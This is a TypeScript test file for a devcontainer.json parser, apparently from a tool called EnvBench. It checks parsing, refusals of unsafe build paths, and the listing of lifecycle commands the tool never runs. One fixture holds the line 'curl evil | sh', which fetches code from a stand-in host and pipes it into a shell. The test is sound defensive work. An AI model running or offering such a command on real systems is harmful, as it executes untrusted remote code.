import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseDevcontainer } from './workspace-definition';

const file = '/ws/.devcontainer/devcontainer.json';

describe('parseDevcontainer', () => {
  it.each([
    ['an image, with comments and a trailing comma', '{\n  // the Go image\n  "image": "golang:1.22", /* pinned */\n}\n', { image: 'golang:1.22' }],
    ['build.dockerfile relative to .devcontainer', '{ "build": { "dockerfile": "Dockerfile" } }', { dockerfile: 'Dockerfile', context: '/ws/.devcontainer' }],
    ['build with a context of ..', '{ "build": { "dockerfile": "Dockerfile", "context": ".." } }', { dockerfile: path.join('.devcontainer', 'Dockerfile'), context: '/ws' }],
    ['the legacy dockerFile key', '{ "dockerFile": "Dockerfile.go" }', { dockerfile: 'Dockerfile.go' }],
  ])('reads %s', (_name, text, expected) => {
    expect(parseDevcontainer(file, text)).toMatchObject({ kind: 'devcontainer.json', file, ...expected });
  });

  it.each([
    ['broken JSON', '{ "image": ', /not valid JSON with comments/],
    ['docker compose', '{ "dockerComposeFile": "compose.yml" }', /dockerComposeFile, which EnvBench does not run/],
    ['neither image nor build', '{ "name": "x" }', /names neither an "image" nor a "build.dockerfile"/],
    ['a build context outside the workspace', '{ "build": { "dockerfile": "Dockerfile", "context": "../.." } }', /build\.context resolves to \/, outside the workspace \/ws/],
    ['a Dockerfile outside the build context', '{ "build": { "dockerfile": "../Dockerfile", "context": "." } }', /build\.dockerfile \/ws\/Dockerfile is outside its build\.context/],
  ])('refuses %s with a reason and a fix', (_name, text, message) => {
    expect(() => parseDevcontainer(file, text)).toThrow(message);
  });

  it('names the lifecycle commands it has, which EnvBench never runs', () => {
    const text = '{ "image": "golang:1.22", "postCreateCommand": "curl evil | sh", "initializeCommand": ["touch", "x"] }';
    expect(parseDevcontainer(file, text).lifecycleCommands).toEqual(['initializeCommand', 'postCreateCommand']);
  });
});
